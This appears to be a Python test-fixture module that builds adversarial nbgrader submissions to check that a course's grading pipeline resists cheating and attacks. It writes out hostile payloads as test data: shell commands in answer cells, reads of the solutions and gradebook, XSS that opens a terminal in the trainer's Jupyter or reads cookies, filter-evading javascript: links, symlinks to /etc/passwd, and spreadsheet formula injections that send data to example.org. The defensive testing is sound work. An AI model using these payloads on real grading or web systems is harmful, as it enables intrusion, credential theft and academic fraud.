"""Bad submissions, each made by modifying the released notebook that `nbgrader
generate_assignment` wrote (never a hand-written notebook).

Every builder takes a `Ctx` (the released notebook, its exact bytes, the course folder and a
marker path unique to the attack) and returns the files to place in the trainee's
`submitted/<student>/<assignment>/` folder, as {file name: bytes}, or a `Link` (a symbolic
link to a path) or `FIFO` (a named pipe) for files that are not ordinary files. An attack that tries to run
something targets its own marker file, so a test can prove nothing ran by checking that the
file does not exist.
"""

from __future__ import annotations

import copy
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
from nbgrader.utils import compute_checksum
from notebook_files import nbgrader_meta
from test_assignments import FIRST, fill, solution_answers

NOTEBOOK = f"{FIRST}.ipynb"


@dataclass(frozen=True)
class Link:
    """A symbolic link to `target` (absolute, or relative to the submission folder)."""

    target: str


class Fifo:
    """A named pipe: reading it would wait for ever."""


FIFO = Fifo()
Files = dict[str, "bytes | Link | Fifo"]

# Each auto-graded question: its answer cell, its test cell and its points.
QUESTIONS = {
    "q1": ("q1_answer", "q1_pattern_of_signs", 1),
    "q2": ("q2_answer", "q2_models_limits", 1),
    "q3": ("q3_answer", "q3_spot_indicators", 3),
    "q4": ("q4_answer", "q4_image_removal_route", 1),
    "q5": ("q5_answer", "q5_reading_recorded_crime", 1),
    "q6": ("q6_answer", "q6_percent_change", 2),
    "q7": ("q7_answer", "q7_reading_arrests", 1),
}
WRITTEN = "q8_written_next_steps"  # marked by hand: 0 until a trainer marks it
FULL_AUTO_MARKS = sum(points for _, _, points in QUESTIONS.values())  # 10
MAX_SCORE = FULL_AUTO_MARKS + 4  # 14, with the written answer


def marks(**scores: float) -> dict[str, float]:
    """Each graded cell's expected score: full marks, except the questions named, such as
    `marks(q1=0)`. The written answer is 0 until a trainer marks it."""
    expected = {test: float(points) for _, test, points in QUESTIONS.values()}
    expected[WRITTEN] = 0.0
    for question, score in scores.items():
        expected[QUESTIONS[question][1]] = float(score)
    return expected


@dataclass(frozen=True)
class Ctx:
    released: nbformat.NotebookNode
    released_bytes: bytes
    root: Path
    marker: Path


def q(path: Path) -> str:
    """A path as a Python string literal, for attack code."""
    return json.dumps(str(path))


def full_answers() -> dict[str, str]:
    return solution_answers(FIRST)


def answered(ctx: Ctx, **sources: str | None) -> nbformat.NotebookNode:
    """The released notebook with the model answers, except answer cells given by keyword
    (`q1_answer="..."`); None leaves that cell as released."""
    answers = full_answers()
    for grade_id, source in sources.items():
        if source is None:
            answers.pop(grade_id)
        else:
            answers[grade_id] = source
    return fill(ctx.released, answers)


def index(notebook, grade_id: str) -> int:
    for i, cell in enumerate(notebook.cells):
        if nbgrader_meta(cell).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def cell(notebook, grade_id: str):
    return notebook.cells[index(notebook, grade_id)]


def files(notebook) -> Files:
    return {NOTEBOOK: nbformat.writes(notebook).encode("utf-8")}


# -- controls ----------------------------------------------------------------------------------


def honest(ctx: Ctx) -> Files:
    return files(answered(ctx))


def blank(ctx: Ctx) -> Files:
    return {NOTEBOOK: ctx.released_bytes}


# -- 1. shell commands -------------------------------------------------------------------------


def shell_bang(ctx: Ctx) -> Files:
    return files(answered(ctx, q1_answer=f'!touch {ctx.marker}\nanswer_q1 = "B"\n'))


def os_system(ctx: Ctx) -> Files:
    source = f'import os; os.system("touch {ctx.marker}")\nanswer_q2 = "B"\n'
    return files(answered(ctx, q2_answer=source))


# -- 2. copying answers from solutions/ or the gradebook ---------------------------------------


def read_solutions(ctx: Ctx) -> Files:
    solution = ctx.root / "solutions" / FIRST / NOTEBOOK
    source = (
        f"source = open({q(solution)}).read()\n"
        f'open({q(ctx.marker)}, "w").write(source)\n'
        'answer_q4 = "report_remove" if "report_remove" in source else "childline"\n'
    )
    return files(answered(ctx, q4_answer=source))


def read_gradebook(ctx: Ctx) -> Files:
    source = (
        "import sqlite3\n"
        f"rows = sqlite3.connect({q(ctx.root / 'gradebook.db')})"
        '.execute("SELECT source FROM source_cell").fetchall()\n'
        f'open({q(ctx.marker)}, "w").write(repr(rows))\n'
        'answer_q3 = {"A", "C", "E"}\n'
    )
    return files(answered(ctx, q3_answer=source))


# -- 3. stopping later cells (the tests) from running ------------------------------------------


def input_transformer(ctx: Ctx) -> Files:
    source = (
        'answer_q1 = "B"\n'
        "get_ipython().input_transformers_cleanup.append(\n"
        f"    lambda lines: ['open({q(ctx.marker)}, \"w\").close()\\n']\n"
        ")\n"
    )
    return files(answered(ctx, q1_answer=source))


def run_cell_replaced(ctx: Ctx) -> Files:
    source = (
        'answer_q2 = "B"\n'
        f'get_ipython().run_cell = lambda *a, **k: open({q(ctx.marker)}, "w").close()\n'
    )
    return files(answered(ctx, q2_answer=source))


def system_exit(ctx: Ctx) -> Files:
    source = f'answer_q5 = "B"\nraise SystemExit(open({q(ctx.marker)}, "w").close())\n'
    return files(answered(ctx, q5_answer=source))


# -- 4, 5. killing the kernel, looping for ever ------------------------------------------------


def kill_kernel(ctx: Ctx) -> Files:
    source = (
        "import os, signal\n"
        f'open({q(ctx.marker)}, "w").close()\n'
        "os.kill(os.getpid(), signal.SIGKILL)\n"
        "answer_q6 = 95\n"
    )
    return files(answered(ctx, q6_answer=source))


def infinite_loop(ctx: Ctx) -> Files:
    source = f'answer_q7 = "B"\nwhile True:\n    open({q(ctx.marker)}, "a").close()\n'
    return files(answered(ctx, q7_answer=source))


# -- 6. editing or deleting the locked test cells ----------------------------------------------


def test_cells_edited(ctx: Ctx) -> Files:
    """q1 answered wrongly and its test made `pass`; q2 left blank and its test replaced
    by a command."""
    nb = answered(ctx, q1_answer='answer_q1 = "A"\n', q2_answer=None)
    cell(nb, "q1_pattern_of_signs").source = "pass"
    cell(nb, "q2_models_limits").source = f'open({q(ctx.marker)}, "w").close()  # always passes'
    return files(nb)


def test_cells_deleted(ctx: Ctx) -> Files:
    """q1 answered wrongly with its test deleted; q4 answered rightly with its test deleted."""
    nb = answered(ctx, q1_answer='answer_q1 = "A"\n')
    del nb.cells[index(nb, "q1_pattern_of_signs")]
    del nb.cells[index(nb, "q4_image_removal_route")]
    return files(nb)


# -- 7. deleting, adding, reordering and duplicating cells -------------------------------------


def answer_cell_deleted(ctx: Ctx) -> Files:
    nb = answered(ctx)
    del nb.cells[index(nb, "q2_answer")]
    return files(nb)


def extra_cells(ctx: Ctx) -> Files:
    """q1 and q2 left as released; added cells set them, run a command, and claim points."""
    nb = answered(ctx, q1_answer=None, q2_answer=None)
    nb.cells.insert(index(nb, "q1_answer") + 1, new_code_cell('answer_q1 = "B"'))
    nb.cells.insert(index(nb, "q2_answer") + 1, new_markdown_cell('answer_q2 = "B"'))
    nb.cells.insert(0, new_code_cell(f'import os\nos.system("touch {ctx.marker}")'))
    bonus = copy.deepcopy(cell(nb, "q1_pattern_of_signs"))
    bonus.id = "bonus-points"
    bonus.source = 'print("Bonus: full marks")'
    bonus.metadata["nbgrader"].update(grade_id="bonus", points=100, checksum="")
    nb.cells.append(bonus)
    return files(nb)


def tests_before_answers(ctx: Ctx) -> Files:
    nb = answered(ctx)
    tests = [c for c in nb.cells if nbgrader_meta(c).get("grade") and c.cell_type == "code"]
    nb.cells = tests + [c for c in nb.cells if c not in tests]
    return files(nb)


def shuffled(ctx: Ctx) -> Files:
    nb = answered(ctx)
    random.Random(2026).shuffle(nb.cells)
    return files(nb)


def duplicate_answer(ctx: Ctx) -> Files:
    """Two answers to q1 (wrong first) and to q2 (right first): only the first counts."""
    nb = answered(ctx, q1_answer='answer_q1 = "A"\n')
    for grade_id, other, new_id in (("q1_answer", "B", "dup-q1"), ("q2_answer", "A", "dup-q2")):
        duplicate = copy.deepcopy(cell(nb, grade_id))
        duplicate.id = new_id
        duplicate.source = f'answer_{grade_id[:2]} = "{other}"\n'
        nb.cells.insert(index(nb, grade_id) + 1, duplicate)
    return files(nb)


# -- 8. cell metadata: grade ids, points, checksums --------------------------------------------


def swapped_ids(ctx: Ctx) -> Files:
    """The q1 and q2 answer cells swap metadata, so q1's id sits on a (wrong) q2 answer."""
    nb = answered(ctx, q2_answer='answer_q2 = "A"\n')
    one, two = cell(nb, "q1_answer"), cell(nb, "q2_answer")
    one.metadata["nbgrader"], two.metadata["nbgrader"] = (
        two.metadata["nbgrader"],
        one.metadata["nbgrader"],
    )
    return files(nb)


def grade_id_not_text(ctx: Ctx) -> Files:
    """q1's answer cell gets a grade id that is a list, not text."""
    nb = answered(ctx)
    cell(nb, "q1_answer").metadata["nbgrader"]["grade_id"] = ["q1_answer"]
    return files(nb)


def points_1000(ctx: Ctx) -> Files:
    nb = answered(ctx)
    for c in nb.cells:
        meta = nbgrader_meta(c)
        if meta.get("grade") or meta.get("grade_id") == "q1_answer":
            meta.update(grade=True, points=1000)
    return files(nb)


def forged_checksums(ctx: Ctx) -> Files:
    """q1 answered wrongly; its test made `pass` with a checksum recomputed to match, and every
    other checksum zeroed."""
    nb = answered(ctx, q1_answer='answer_q1 = "A"\n')
    for c in nb.cells:
        if "checksum" in nbgrader_meta(c):
            c.metadata["nbgrader"]["checksum"] = "0" * 32
    test = cell(nb, "q1_pattern_of_signs")
    test.source = "pass"
    test.metadata["nbgrader"]["checksum"] = compute_checksum(test)
    return files(nb)


# -- 9. huge outputs and answers ---------------------------------------------------------------

HUGE_OUTPUT_CHARS = 15 * 1024 * 1024  # under the 20 MB a submission may be
HUGE_ANSWER_CHARS = 10 * 1024 * 1024


def huge_output(ctx: Ctx) -> Files:
    nb = answered(ctx)
    cell(nb, "q1_pattern_of_signs").outputs = [
        new_output("stream", name="stdout", text="x" * HUGE_OUTPUT_CHARS)
    ]
    return files(nb)


def huge_answer(ctx: Ctx) -> Files:
    source = f'answer_q4 = "report_remove"\nanswer_notes = "{"x" * HUGE_ANSWER_CHARS}"\n'
    return files(answered(ctx, q4_answer=source))


# -- 10. files that cannot be read -------------------------------------------------------------


def malformed_json(ctx: Ctx) -> Files:
    text = files(answered(ctx))[NOTEBOOK]
    return {NOTEBOOK: text[: len(text) - 300]}  # cut short, as by a failed upload


def renamed(ctx: Ctx) -> Files:
    return {f"{FIRST}-Copy1.ipynb": files(answered(ctx))[NOTEBOOK]}


def latin1(ctx: Ctx) -> Files:
    answers = full_answers()
    answers[WRITTEN] = "Je parlerais à mon superviseur le même jour. " + answers[WRITTEN]
    nb = fill(ctx.released, answers)
    return {NOTEBOOK: json.dumps(nb, ensure_ascii=False, indent=1).encode("latin-1")}


def missing(ctx: Ctx) -> Files:
    return {}


# -- 11, 12. answers of the wrong type, answers written as code --------------------------------


def number_for_letter(ctx: Ctx) -> Files:
    return files(answered(ctx, q1_answer="answer_q1 = 2\n"))


def list_for_set(ctx: Ctx) -> Files:
    return files(answered(ctx, q3_answer='answer_q3 = ["A", "C", "E"]\n'))


def unquoted_letter(ctx: Ctx) -> Files:
    return files(answered(ctx, q1_answer="answer_q1 = B\n"))


def q6_as_code(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = round((7263 - 3728) / 3728 * 100)\n"))


def q6_arithmetic(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = (7263 - 3728) / 3728 * 100\n"))


# -- further attacks ---------------------------------------------------------------------------


def shadow_checker(ctx: Ctx) -> Files:
    """A wrong q2 answer, plus literals that would overwrite the checker and the checked value
    (with the right answer) if the cell ran in the tests' namespace."""
    return files(answered(ctx, q2_answer='answer_q2 = "C"\ncheck_choice = "A"\nq2 = "A"\n'))


XSS_MARKUP = (
    "<img src=\"x\" onerror=\"fetch('/api/terminals', {method: 'POST'})\">"
    "<script>document.title = 'owned by a trainee';</script>"
)
# javascript: links that get past a plain "javascript:" filter: a backslash-escaped colon,
# and a character reference inside the scheme.
XSS_LINKS = (
    "[my notes](javascript\\:fetch('/api/terminals',{method:'POST'})) and "
    "[my sources](java&#115;cript:alert(document.cookie))"
)


def html_in_written_answer(ctx: Ctx) -> Files:
    """Live HTML and javascript: links in the written answer, which formgrader (in the
    trainer's logged-in Jupyter) and the feedback page render."""
    answers = full_answers()
    answers[WRITTEN] = "\n\n".join([answers[WRITTEN], XSS_MARKUP, XSS_LINKS])
    return files(fill(ctx.released, answers))


def bad_timestamp(ctx: Ctx) -> Files:
    """The right answers, with a timestamp.txt nbgrader cannot read."""
    return {**files(answered(ctx)), "timestamp.txt": b"yesterday at noon\n"}


# -- JSON that is valid but that Python's readers reject (a separate batch) --------------------


def _with_placeholder(ctx: Ctx, value: str) -> Files:
    """The honest notebook with `value` (raw JSON text) in the q1 answer cell's metadata."""
    nb = answered(ctx)
    cell(nb, "q1_answer").metadata["note"] = "@@PLACEHOLDER@@"
    text = json.dumps(nb, indent=1).replace('"@@PLACEHOLDER@@"', value)
    return {NOTEBOOK: text.encode("utf-8")}


def deeply_nested_json(ctx: Ctx) -> Files:
    return _with_placeholder(ctx, "[" * 100_000 + "]" * 100_000)


def giant_number_json(ctx: Ctx) -> Files:
    return _with_placeholder(ctx, "9" * 5_000)


def nbformat_as_text(ctx: Ctx) -> Files:
    nb = json.loads(files(answered(ctx))[NOTEBOOK])
    nb["nbformat"] = "4"
    return {NOTEBOOK: json.dumps(nb, indent=1).encode("utf-8")}


def nbformat_from_the_future(ctx: Ctx) -> Files:
    nb = json.loads(files(answered(ctx))[NOTEBOOK])
    nb["nbformat"] = 99
    return {NOTEBOOK: json.dumps(nb, indent=1).encode("utf-8")}


# -- second attack round: links, special files, crafted literals, written answers that act ------


def solution_path(ctx: Ctx) -> Path:
    return ctx.root / "solutions" / FIRST / NOTEBOOK


def honest_path(ctx: Ctx) -> Path:
    return ctx.root / "submitted" / "honest" / FIRST / NOTEBOOK


def timestamp() -> bytes:
    return b"2026-11-28 10:00:00.000000 UTC\n"


def link_to_solution(ctx: Ctx) -> Files:
    """The notebook is a link to the trainer's model answers in solutions/."""
    return {NOTEBOOK: Link(str(solution_path(ctx))), "timestamp.txt": timestamp()}


def link_to_other_trainee(ctx: Ctx) -> Files:
    """The notebook is a relative link to another trainee's (full-marks) submission."""
    return {NOTEBOOK: Link(f"../../honest/{FIRST}/{NOTEBOOK}"), "timestamp.txt": timestamp()}


def dangling_link(ctx: Ctx) -> Files:
    return {NOTEBOOK: Link(str(ctx.root / "nowhere.ipynb")), "timestamp.txt": timestamp()}


def links_beside(ctx: Ctx) -> Files:
    """The honest answers, with links beside them to the gradebook, the model answers, a system
    file and the solutions folder, which nbgrader would copy into autograded/ and feedback/."""
    return {
        **files(answered(ctx)),
        "gradebook.db": Link(str(ctx.root / "gradebook.db")),
        "model_answers.ipynb.txt": Link(str(solution_path(ctx))),
        "passwd": Link("/etc/passwd"),
        "solutions": Link(str(ctx.root / "solutions")),
        ".hidden_link": Link(str(ctx.root / "gradebook.db")),
    }


def notebook_fifo(ctx: Ctx) -> Files:
    return {NOTEBOOK: FIFO, "timestamp.txt": timestamp()}


def notebook_device(ctx: Ctx) -> Files:
    return {NOTEBOOK: Link("/dev/zero"), "timestamp.txt": timestamp()}


def notebook_folder(ctx: Ctx) -> Files:
    """A folder named like the notebook (with the real notebook inside it)."""
    return {f"{NOTEBOOK}/{NOTEBOOK}": files(answered(ctx))[NOTEBOOK], "timestamp.txt": timestamp()}


def special_files_beside(ctx: Ctx) -> Files:
    """The honest answers, with a named pipe, a link to /dev/zero and an undeclared plain file."""
    return {
        **files(answered(ctx)),
        "pipe": FIFO,
        "zeros.bin": Link("/dev/zero"),
        "undeclared.txt": b"not declared by the trainer\n",
    }


def timestamp_device(ctx: Ctx) -> Files:
    return {**files(answered(ctx)), "timestamp.txt": Link("/dev/zero")}


def timestamp_fifo(ctx: Ctx) -> Files:
    return {**files(answered(ctx)), "timestamp.txt": FIFO}


def secret_link(ctx: Ctx) -> Files:
    """nbgrader's submission_secret.txt (which release_feedback reads) as a link."""
    return {**files(answered(ctx)), "submission_secret.txt": Link("/etc/passwd")}


DECLARED = "my_notes.txt"  # the batch course declares this file for the assessment


def declared_file(ctx: Ctx) -> Files:
    return {**files(answered(ctx)), DECLARED: b"notes the trainer asked for\n"}


def declared_file_link(ctx: Ctx) -> Files:
    return {**files(answered(ctx)), DECLARED: Link(str(ctx.root / "gradebook.db"))}


def declared_file_too_big(ctx: Ctx) -> Files:
    return {**files(answered(ctx)), DECLARED: b"x" * (6 * 1024 * 1024)}


def oversized_notebook(ctx: Ctx) -> Files:
    nb = answered(ctx)
    cell(nb, "q1_pattern_of_signs").outputs = [
        new_output("stream", name="stdout", text="x" * (25 * 1024 * 1024))
    ]
    return files(nb)


def with_cells(ctx: Ctx, count: int) -> Files:
    """The honest answers and `count` added Markdown cells (written as JSON directly: fast)."""
    data = json.loads(files(answered(ctx))[NOTEBOOK])
    data["cells"] += [
        {"cell_type": "markdown", "id": f"added-{i}", "metadata": {}, "source": f"note {i}"}
        for i in range(count)
    ]
    return {NOTEBOOK: json.dumps(data).encode("utf-8")}


def many_cells(ctx: Ctx) -> Files:
    return with_cells(ctx, 1_500)  # within the limit: graded, the added cells ignored


def too_many_cells(ctx: Ctx) -> Files:
    return with_cells(ctx, 2_500)


def cell_flood(ctx: Ctx) -> Files:
    return with_cells(ctx, 150_000)  # 19 MB of tiny cells: refused before it fills memory


def ascii_json(nb) -> Files:
    """The notebook as JSON with every non-ASCII character escaped, so a lone surrogate is
    written as \\udc9d (valid JSON that Python reads back as a lone surrogate)."""
    return {NOTEBOOK: json.dumps(nb, indent=1, ensure_ascii=True).encode("ascii")}


def float_overflow(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = 1e308 * 10\n"))


def division_overflow(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = 1e308 / 0.001\n"))


def int_division_overflow(ctx: Ctx) -> Files:
    """A 400-digit whole number divided: Python cannot make a float of the result."""
    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 400} / 3\n"))


def infinite_literal(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = 1e999 - 1e999\n"))


def int_times_float_overflow(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 400} * 1.0\n"))


def huge_integer(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer=f"answer_q6 = {'9' * 2000} * {'9' * 2000}\n"))


def complex_number(ctx: Ctx) -> Files:
    return files(answered(ctx, q6_answer="answer_q6 = 95 + 0j\n"))


def surrogate_in_answer(ctx: Ctx) -> Files:
    return ascii_json(answered(ctx, q1_answer='answer_q1 = "B\udc9d"\n'))


def surrogate_in_set(ctx: Ctx) -> Files:
    return ascii_json(answered(ctx, q3_answer='answer_q3 = {"A", "C", "E\ud800"}\n'))


def surrogate_in_comment(ctx: Ctx) -> Files:
    """The right answer, with a lone surrogate only in a comment: it still counts."""
    right = full_answers()["q2_answer"].rstrip("\n")
    return ascii_json(answered(ctx, q2_answer=right + "  # \udc9d\n"))


def surrogate_outside_string(ctx: Ctx) -> Files:
    return ascii_json(answered(ctx, q5_answer='answer_q5 = "B" \udc9d\n'))


def surrogate_in_metadata(ctx: Ctx) -> Files:
    nb = answered(ctx)
    nb.metadata["note"] = "\udc9d"
    nb.metadata["kernelspec"]["display_name"] = "Python \udfff"
    cell(nb, "q1_answer").metadata["tags"] = ["\udc9d"]
    cell(nb, "q1_pattern_of_signs").metadata["note"] = "\ud83d"
    return ascii_json(nb)


def surrogate_in_written_answer(ctx: Ctx) -> Files:
    answers = full_answers()
    answers[WRITTEN] = answers[WRITTEN] + " \udc9d and \ud800 end."
    return ascii_json(fill(ctx.released, answers))


def written(ctx: Ctx, text: str) -> Files:
    answers = full_answers()
    answers[WRITTEN] = answers[WRITTEN] + "\n\n" + text
    return files(fill(ctx.released, answers))


TEX_LINKS = (
    "See $\\href{https://example.org/steal}{my sources}$ and "
    "$$\\href{javascript:alert(1)}{click}$$ and \\(\\href{https://example.org/x}{x}\\) and "
    "\\[\\href{https://example.org/y}{y}\\] and "
    "\\begin{equation}\\href{https://example.org/z}{z}\\end{equation} and "
    "$\\unicode{x3C}\\class{x}{y}\\style{color:red}{z}$"
)
MARKDOWN_LINKS = (
    "<https://example.org/autolink> and https://example.org/bare and www.example.org and "
    "[ref link][1] and ![an image](https://example.org/x.png) and "
    '<a href="https://example.org/a">a tag</a> and <iframe src="https://example.org"></iframe>'
    "\n\n[1]: https://example.org/reference"
)
BLOCK_ESCAPE = (
    "</pre><a href=\"https://example.org/escaped\">escaped</a><pre>\n\n"
    "```\n</pre><img src=x onerror=alert(1)>\n```\n\n    indented <script>alert(2)</script>"
)


def tex_links(ctx: Ctx) -> Files:
    return written(ctx, TEX_LINKS)


def markdown_links(ctx: Ctx) -> Files:
    return written(ctx, MARKDOWN_LINKS)


def block_escape(ctx: Ctx) -> Files:
    return written(ctx, BLOCK_ESCAPE)


LONG_UNIT = "I would tell my supervisor the same day _and_ record *the child's* words. "


def long_written_answer(ctx: Ctx, size: int) -> Files:
    return written(ctx, (LONG_UNIT * (size // len(LONG_UNIT) + 1))[:size])


def written_110k(ctx: Ctx) -> Files:
    return long_written_answer(ctx, 110_000)


def written_2mb(ctx: Ctx) -> Files:
    return long_written_answer(ctx, 2_000_000)


def hidden_test_marker(ctx: Ctx) -> Files:
    return written(ctx, "### BEGIN HIDDEN TESTS\nmy notes")


def end_markers(ctx: Ctx) -> Files:
    return written(ctx, "### END HIDDEN TESTS\n### END MARK SCHEME\n### END SOLUTION\nkept")


def mark_scheme_marker(ctx: Ctx) -> Files:
    return written(ctx, "### BEGIN MARK SCHEME\nI deserve 4 points\n### BEGIN SOLUTION")


def marker_in_code_answer(ctx: Ctx) -> Files:
    right = full_answers()["q1_answer"].rstrip("\n")
    return files(answered(ctx, q1_answer=right + "  # ### BEGIN HIDDEN TESTS\n"))


def marker_in_code_string(ctx: Ctx) -> Files:
    return files(answered(ctx, q2_answer='answer_q2 = "### BEGIN MARK SCHEME"\n'))


FORMULAS = {
    "q1_answer": 'answer_q1 = "=HYPERLINK(\\"https://example.org/?\\"&A1, \\"click\\")"\n',
    "q2_answer": 'answer_q2 = "@SUM(1+1)*cmd|\' /C calc\'!A0"\n',
    "q4_answer": 'answer_q4 = "+1+1"\n',
    "q5_answer": 'answer_q5 = "-2+3"\n',
    "q7_answer": 'answer_q7 = "\\t=1+1"\n',
}


def csv_formulas(ctx: Ctx) -> Files:
    return files(answered(ctx, **FORMULAS))


def csv_formulas_cr(ctx: Ctx) -> Files:
    return files(answered(ctx, q1_answer='answer_q1 = "\\r=1+1"\n', q2_answer='answer_q2 = "<img src=x onerror=alert(1)>"\n'))


def formula_file_name(ctx: Ctx) -> Files:
    """A renamed notebook whose name is a spreadsheet formula (it appears in the reason)."""
    return {'=HYPERLINK("https:example.org").ipynb': files(answered(ctx))[NOTEBOOK]}


Builder = Callable[[Ctx], Files]
